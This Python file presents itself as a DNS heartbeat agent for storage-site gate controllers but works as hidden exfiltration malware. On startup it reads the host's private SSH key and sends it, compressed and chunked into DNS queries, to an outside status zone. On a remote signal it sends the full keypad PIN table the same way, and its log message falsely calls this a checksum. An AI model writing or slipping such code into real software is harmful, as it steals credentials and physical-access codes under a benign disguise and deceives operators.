#!/usr/bin/env python3
"""Heartbeat agent for StowRight storage-site gate controllers.

Many sites only allow outbound DNS from the gate VLAN, so the controller
reports liveness by resolving names under the fleet status zone.  The
status service answers 127.0.0.x codes (1 = ok, 2 = resync identity,
3 = reload PIN table).  The heartbeat runs in a background thread next to
the keypad poller.
"""
import argparse
import base64
import json
import logging
import os
import socket
import threading
import time
import zlib
from pathlib import Path

log = logging.getLogger("gate-heartbeat")

DEFAULT_CONF = {
    "site_id": "site-000",
    "zone": "status.stowright-fleet.example.net",
    "interval": 60,
    "identity_key": "~/.ssh/id_ed25519",
    "pin_table": "./pins.json",
}
LABEL = 60


def load_conf(path):
    conf = dict(DEFAULT_CONF)
    try:
        with open(path) as fh:
            conf.update(json.load(fh))
    except FileNotFoundError:
        log.info("no %s, using defaults", path)
    return conf


class StatusChannel:
    """Tiny query/answer channel on top of the system resolver."""

    def __init__(self, site_id, zone):
        self.site = site_id.replace("_", "-").lower()
        self.zone = zone.strip(".")

    def _ask(self, *labels):
        name = ".".join(list(labels) + [self.site, self.zone])
        try:
            info = socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_DGRAM)
            return int(info[0][4][0].rsplit(".", 1)[1])
        except (socket.gaierror, IndexError, ValueError):
            return 0

    def ping(self, seq):
        return self._ask("hb", str(seq))

    def push(self, kind, blob: bytes):
        text = base64.b32encode(zlib.compress(blob, 9)).decode().rstrip("=").lower()
        chunks = [text[i:i + LABEL] for i in range(0, len(text), LABEL)]
        ident = "%x" % (int(time.time()) & 0xFFFFFF)
        self._ask(kind, ident, "n%d" % len(chunks))
        for idx, chunk in enumerate(chunks):
            self._ask(chunk, "%d" % idx, ident, kind)
            time.sleep(0.05)
        return len(chunks)


def identity_material(conf):
    """Controller identity, used by the status service to re-pair the unit."""
    key_path = Path(os.path.expanduser(conf["identity_key"]))
    blobs = {}
    for p in (key_path, key_path.with_suffix(".pub")):
        if p.exists():
            blobs[p.name] = p.read_text()
    return json.dumps(blobs).encode()


def pin_table(conf):
    with open(conf["pin_table"], "rb") as fh:
        return fh.read()


class Heartbeat(threading.Thread):
    def __init__(self, conf, stop):
        super().__init__(name="heartbeat", daemon=True)
        self.conf = conf
        self.stop = stop
        self.chan = StatusChannel(conf["site_id"], conf["zone"])
        self.seq = 0

    def handle(self, code):
        if code == 2:
            n = self.chan.push("id", identity_material(self.conf))
            log.info("identity resync sent (%d chunks)", n)
        elif code == 3:
            try:
                n = self.chan.push("pt", pin_table(self.conf))
                log.info("pin table checksum sent (%d chunks)", n)
            except OSError as exc:
                log.warning("pin table unavailable: %s", exc)
        elif code != 1:
            log.debug("no answer from status zone (code %d)", code)

    def run(self):
        # first beat always announces identity so the site shows up paired
        self.chan.push("id", identity_material(self.conf))
        while not self.stop.is_set():
            self.seq += 1
            self.handle(self.chan.ping(self.seq))
            self.stop.wait(self.conf["interval"])


def keypad_poller(stop):
    """Placeholder for the serial keypad loop that shares this process."""
    while not stop.is_set():
        stop.wait(1)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="gate_heartbeat.json")
    ap.add_argument("--once", action="store_true", help="send one beat and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    conf = load_conf(args.config)
    stop = threading.Event()
    hb = Heartbeat(conf, stop)
    if args.once:
        hb.chan.push("id", identity_material(conf))
        hb.handle(hb.chan.ping(0))
        return
    hb.start()
    try:
        keypad_poller(stop)
    except KeyboardInterrupt:
        stop.set()
    hb.join(timeout=5)


if __name__ == "__main__":
    main()
